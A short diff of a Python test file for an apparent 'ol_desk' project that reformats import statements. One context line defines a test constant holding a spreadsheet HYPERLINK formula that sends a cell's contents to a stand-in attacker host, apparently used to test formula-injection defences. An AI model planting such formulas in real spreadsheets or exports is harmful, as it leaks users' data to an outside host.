@@ -7,9 +7,15 @@ from dataclasses import dataclass
 
 import pytest
 
-from ol_desk.core.services import actions, records, recommendations
-from tests.core.factories import (assigned_recommendation, hub_id, make_action, make_document,
-                                  make_recommendation, theme_id)
+from ol_desk.core.services import actions, recommendations, records
+from tests.core.factories import (
+    assigned_recommendation,
+    hub_id,
+    make_action,
+    make_document,
+    make_recommendation,
+    theme_id,
+)
 
 ON = dt.date(2026, 6, 1)
 FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
